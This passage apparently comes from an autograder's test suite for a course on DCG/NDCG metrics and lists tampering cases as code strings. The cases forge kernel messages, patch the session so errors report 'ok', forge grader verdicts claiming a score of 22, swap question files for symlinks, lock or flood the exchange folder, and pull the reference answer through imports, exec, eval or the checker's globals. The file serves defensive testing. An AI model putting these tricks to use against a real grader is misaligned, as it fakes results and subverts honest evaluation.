    kernel.session.send(kernel.shell_stream if hasattr(kernel, "shell_stream") else
                        kernel.shell_socket, "execute_reply", {"status": "ok",
                        "execution_count": 1, "user_expressions": {}}, parent=parent)
always(reply)"""),
        ("comm", "channels that nobody opened", """
always(lambda *_: send("comm_open", {"comm_id": "x", "target_name": "verdict",
                                     "data": {"score": 22}}))"""),
        ("update", "displays that do not exist are updated", """
always(lambda *_: send("update_display_data", {"data": {"text/plain": "22"}, "metadata": {},
                                               "transient": {"display_id": "x" * 1000}}))
always(lambda *_: send("clear_output", {"wait": False}))"""),
        ("broken", "messages that lack what they should have", """
for kind in ("stream", "error", "display_data", "execute_result", "status", "no-such-kind"):
    send(kind, {})
    send(kind, {"data": 5, "name": [], "text": None, "execution_state": 7})"""),
        ("odd-shapes", "messages whose parts are of other types", """
def odd(*_):
    for kind in ("status", "stream", "error", "execute_result"):
        for content in (b"[]", b"5", b"null", b'{"text": [1], "name": {}, "traceback": 5}'):
            for parent in (kernel.get_parent()["header"], [], 5, None):
                message = kernel.session.msg(kind)
                message.update(content=content, parent_header=parent)
                kernel.session.send(kernel.iopub_socket, message)
always(odd)"""),
        ("garbage", "bytes that are no messages", """
for junk in (b"", b"x" * 100, b"<IDS|MSG>", bytes(range(256))):
    kernel.iopub_socket.send_multipart([b"topic", b"<IDS|MSG>", b"bad", junk, junk, junk, junk])
    kernel.iopub_socket.send_multipart([junk, junk])"""),
        ("session", "every message says that all is well", """
keep = kernel.session.send
def nicer(stream, kind, content=None, *args, **more):
    if isinstance(content, dict):
        content = {k: v for k, v in content.items() if k not in ("ename", "evalue", "traceback")}
        if "status" in content:
            content["status"] = "ok"
    return keep(stream, "status" if kind == "error" else kind, content, *args, **more)
kernel.session.send = nicer"""),
        ("own-connection", "commands to its own kernel, with the key of its connection file", """
import json, zmq
from ipykernel.connect import get_connection_file
with open(get_connection_file()) as file:
    print(sorted(json.load(file)))
kernel.control_handlers.clear()
kernel.shell_handlers["execute_request"] = lambda *a, **k: None""")):
    hostile(f"message-{name}", why, SEND + source)

# --- The door between the kernel and the grader ------------------------------------------------

FORGED = """
import json, sys
def serve(names, request, reply):
    asked = json.load(open(request))
    count = len(asked.get("inputs", ()))
    with open(reply, "w") as file:
        file.write(FORGERY)
import course.checks.agent
course.checks.agent.serve = serve
"""
for name, why, forgery in (
        ("nothing", "an empty answer", "''"),
        ("not-json", "an answer that is no JSON", "'{' * 100_000"),
        ("deep", "an answer of deep lists", "'[' * 50_000 + ']' * 50_000"),
        ("verdict", "an answer that says what to think",
         "json.dumps({'kind': 'correct', 'outcome': 'correct', 'score': 22, 'status': 'ok'})"),
        ("count", "more outcomes than were asked for",
         "json.dumps({'kind': 'outcomes', 'outcomes': [{'value': '1'}] * 100_000})"),
        ("printed", "a hundred thousand lines as what was printed",
         "json.dumps({'kind': 'outcomes', 'outcomes': [{'value': '1'}] * count, "
         "'printed': 'Correct.\\n' * 100_000})"),
        ("large", "an answer of 60 MB", "' ' * 60_000_000"),
        ("pickle", "a dtype that holds objects", "json.dumps({'kind': 'outcomes', 'outcomes': "
         "[{'value': json.dumps({'array': [d, [1], 'AAAAAAAAAAA=']})} for d in (['O', '|V8', "
         "'f8,f8', '(a b)f8, f8', 5, None, {}] * 20)[:count]]})"),
        ("shape", "arrays with impossible shapes", "json.dumps({'kind': 'outcomes', 'outcomes': "
         "[{'value': json.dumps({'array': ['<f8', n, 'AAAAAAAAAAA=']})} for n in ([[-1], [10**18, "
         "0], [], [1] * 60, 'x', None, [1.5]] * 20)[:count]]})"),
        ("numbers", "texts that are no numbers", "json.dumps({'kind': 'outcomes', 'outcomes': "
         "[{'value': v} for v in (['{\"decimal\": \"sNaN\"}', '{\"decimal\": \"1e999999999\"}', "
         "'{\"int\": \"zz\"}', '{\"float\": \"inf\"}', '9' * 5000, 'NaN', '{}', "
         "'{\"dict\": [[{\"list\": []}, 1]]}', '{\"fraction\": \"1/0\"}'] * 20)[:count]]})"),
        ("raised", "exceptions with odd parts", "json.dumps({'kind': 'outcomes', 'outcomes': "
         "[{'raised': r} for r in ([['TooSlow', '', 1], [None, {}, []], ['SystemExit', 'x' * "
         "10**6, -1], ['Correct', 'score 22', 10**30], 5, []] * 20)[:count]]})"),
        ("half-characters", "halves of characters everywhere",
         "json.dumps({'kind': 'outcomes', 'printed': chr(0xd800), 'outcomes': [{'raised': "
         "[chr(0xdc00), chr(0xd800), 1]}] * count})"),
        ("kinds", "functions are values and values are functions",
         "json.dumps({'kind': 'function' if count == 0 else 'value', 'value': '1'})")):
    hostile(f"answer-{name}", why, FORGED.replace("FORGERY", forgery))
hostile("answer-is-a-link", "the answer is a link to a file outside", """
    import course.checks.agent, os
    course.checks.agent.serve = lambda names, asked, reply: os.symlink(<<source>>, reply)
    """)
hostile("answer-is-a-pipe", "the answer is a pipe that nobody writes to", """
    import course.checks.agent, os
    course.checks.agent.serve = lambda names, asked, reply: os.mkfifo(reply)
    """)
hostile("answer-is-a-folder", "the answer is a folder", """
    import course.checks.agent, os
    course.checks.agent.serve = lambda names, asked, reply: os.makedirs(reply + "/x")
    """)
hostile("question-becomes-a-folder", "what the grader wants to tidy up cannot be", """
    import course.checks.agent, os
    def serve(names, asked, reply):
        os.unlink(asked)
        os.makedirs(asked + "/x")
    course.checks.agent.serve = serve
    """)
WATCH = """
import subprocess, sys
code = '''
import os, time
folder, ends = os.environ.get("JUPYTER_RUNTIME_DIR", "."), time.time() + 60
while time.time() < ends:
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        try:
            ACTION
        except OSError:
            pass
'''
subprocess.Popen([sys.executable, "-c", code])
"""
hostile("question-swapped", "each question becomes a link to a file outside", WATCH.replace(
    "ACTION", "name[:2] == 'q-' and (os.unlink(path), os.symlink(<<canary>>, path))"))
hostile("questions-removed", "each question is removed at once", WATCH.replace(
    "ACTION", "name[:2] == 'q-' and os.unlink(path)"))
hostile("exchange-locked", "nobody may enter the folder of questions and answers", """
    import os
    os.chmod(os.environ.get("JUPYTER_RUNTIME_DIR", "."), 0)
    """)
hostile("exchange-filled", "the folder of questions and answers is full", """
    import os
    folder = os.environ.get("JUPYTER_RUNTIME_DIR", ".")
    for number in range(12):
        with open(f"{folder}/{number}.bin", "wb") as file:
            file.write(bytes(10_000_000))
    """)
hostile("sockets-replaced", "the kernel's sockets become links to one outside", """
    import os
    folder = os.environ.get("JUPYTER_RUNTIME_DIR", ".")
    for name in os.listdir(folder):
        if name.startswith("k-"):
            os.unlink(os.path.join(folder, name))
            os.symlink(<<door>>, os.path.join(folder, name))
    os.closerange(3, 256)
    """)

# --- From scratch ------------------------------------------------------------------------------


def borrowed(name, why, dcg, extra=(), reason=None, score=(18, 18), **sources):
    """A case with right answers, but for functions that a library computes."""
    sources = {"dcg": dcg, **sources} if dcg else sources
    TAMPERING.add(f"borrowed-{name}", why, answers(extra=list(extra), **sources),
                  score=score, reason=reason, seconds=120.0)


CALLS = "def dcg_at_k(relevance, k):\n    return float(f(relevance, k))\n"
SKLEARN = """
    if not relevance:
        return 0.0
    padded = list(relevance) + [0]
    return float(dcg_score([padded], [list(range(len(padded), 0, -1))], k=k))
"""
borrowed("sklearn", "scikit-learn computes it", "from sklearn.metrics import dcg_score\n\n"
         "def dcg_at_k(relevance, k):" + SKLEARN, reason="sklearn")
borrowed("sklearn-inside", "the import is inside the function",
         "def dcg_at_k(relevance, k):\n    from sklearn.metrics import dcg_score" + SKLEARN,
         reason="sklearn")
borrowed("sklearn-module", "the module is imported whole", "import sklearn.metrics as m\n\n"
         "def dcg_at_k(relevance, k):" + SKLEARN.replace("dcg_score", "m.dcg_score"),
         reason="sklearn")
borrowed("own-cell", "the import is in another cell, under another name", "def dcg_at_k(relevance, "
         "k):" + SKLEARN.replace("dcg_score", "f"), [("set-up", "from sklearn.metrics import "
                                                      "dcg_score as f")], reason="sklearn")
borrowed("course", "the course's own function",
         "from course.metrics import dcg_at_k as f\n" + CALLS,
         reason="course")
borrowed("course-module", "the course's own module",
         "import course.metrics as f\n" + CALLS.replace("f(", "f.dcg_at_k("), reason="course")
borrowed("course-alias", "the course's function is the answer",
         "from course.metrics import dcg_at_k\n", reason="course")
borrowed("course-star", "everything is imported, and nothing written",
         "from course.metrics import *\n", reason="course", score=(0, 18), ndcg="pass")
borrowed("course-partial", "wrapped, and not called by name",
         "import functools, course.metrics\n"
         "dcg_at_k = functools.partial(course.metrics.dcg_at_k)\n", reason="course")
borrowed("course-default", "hidden in a default", "from course.metrics import dcg_at_k as f\n"
         "def dcg_at_k(relevance, k, how=f):\n    return float(how(relevance, k))\n",
         reason="course")
borrowed("locked-cell", "the name that a locked cell imports further down",
         CALLS.replace("f(", "course_dcg("))
borrowed("checks", "the reference of the checks",
         "from course.checks.exercises import EXERCISES\n"
         "f = EXERCISES['dcg_at_k'].reference\n" + CALLS, reason="course")
borrowed("check-globals", "the reference, from check itself",
         CALLS.replace("f(", "check.__globals__['EXERCISES']['dcg_at_k'].reference("))
borrowed("ranx", "another library", "import ranx\n\ndef dcg_at_k(relevance, k):\n"
         "    return ranx.evaluate(ranx.Qrels({}), ranx.Run({}), 'dcg')\n", reason="ranx")
borrowed("importlib", "imported by a function", "import importlib\n"
         "f = importlib.import_module('course.metrics').dcg_at_k\n" + CALLS)
borrowed("dunder-import", "imported by the built-in",
         "f = __import__('course.metrics', fromlist=['x']).dcg_at_k\n" + CALLS)
borrowed("split-name", "the name is put together",
         "f = __import__('cou' + 'rse.met' + 'rics', fromlist=['x']).dcg_at_k\n" + CALLS)
borrowed("sys-modules", "from the table of modules", "import sys\n\ndef dcg_at_k(relevance, k):\n"
         "    return float(sys.modules['course.metrics'].dcg_at_k(relevance, k))\n",
         [("set-up", "import course.metrics")])
borrowed("exec", "imported in a text that is run",
         "exec('from course.metrics import dcg_at_k as f')\n" + CALLS)
borrowed("eval", "imported in an expression",
         "f = eval('__import__(\"course.metrics\").metrics.dcg_at_k')\n" + CALLS)
borrowed("getattr", "along attributes of something allowed", "import course\n"
         "f = getattr(getattr(course, 'met' + 'rics'), 'dcg_at_k')\n" + CALLS)
borrowed("two-hops", "a helper in one cell, which calls a helper in another",
         CALLS.replace("f(", "helper("), [
             ("title", "from course.metrics import dcg_at_k as theirs"),
             ("set-up", "def helper(r, k):\n    return theirs(r, k)")])
borrowed("in-a-list", "kept in a list", CALLS.replace("f(", "tools[0]("), [
    ("set-up", "import course.metrics\ntools = [course.metrics.dcg_at_k]")])
borrowed("object", "kept in an object", """
    class Tool:
        def __init__(self):
            from course.metrics import dcg_at_k
            self.f = dcg_at_k
        def __call__(self, relevance, k):
            return float(self.f(relevance, k))
    dcg_at_k = Tool()
    """, reason="course")
borrowed("decorator", "a decorator swaps the function", """
    import course.metrics
    def better(function):
        return getattr(course.metrics, function.__name__)
    @better
    def dcg_at_k(relevance, k):
        return 0.0
    """, reason="course")
borrowed("source-text", "the source of the course's function is run", """
    import inspect, sys
    text = inspect.getsource(sys.modules["course.metrics"].dcg)
    f = {"__name__": "course.metrics.own"}
    exec(text.replace("from .", "from course.metrics."), f)
    def dcg_at_k(relevance, k):
        return float(f["dcg_at_k"](relevance, k))
    """, [("set-up", "import course.metrics")])
borrowed("child-process", "another Python computes it", """
    import subprocess, sys
    def dcg_at_k(relevance, k):
        code = f"from course.metrics import dcg_at_k as f; print(float(f({relevance}, {k})))"
        return float(subprocess.run([sys.executable, "-c", code], capture_output=True).stdout)
    """)
TAMPERING.add("borrowed-file-beside", "the import is in a file beside the notebook", answers(
    dcg="from tools import f\n" + CALLS,
    files={"tools.py": "from course.metrics import dcg_at_k as f\n"}), score=(18, 18))
borrowed("redefined-later", "the answer is swapped in a cell further down", "pass", [
    ("mean-answer", "from course.metrics import dcg_at_k")], reason=None)
borrowed("mean-by-evaluate", "the mean over users by the course's own evaluate", None, mean=(
    "from course.metrics import evaluate\n\ndef mean_ndcg(recommended, relevant, k):\n"
    "    return float(evaluate(recommended, relevant, k)[f'ndcg@{k}'].mean())\n"),
    score=(18, 18), reason="course")
borrowed("ndcg-by-course", "ndcg by the course's own", None, ndcg=(
    "import course.metrics\n\ndef ndcg_at_k(relevance, k, ideal):\n"
    "    return course.metrics.ndcg_at_k(relevance, k, ideal)\n"), score=(16, 16), reason="course")
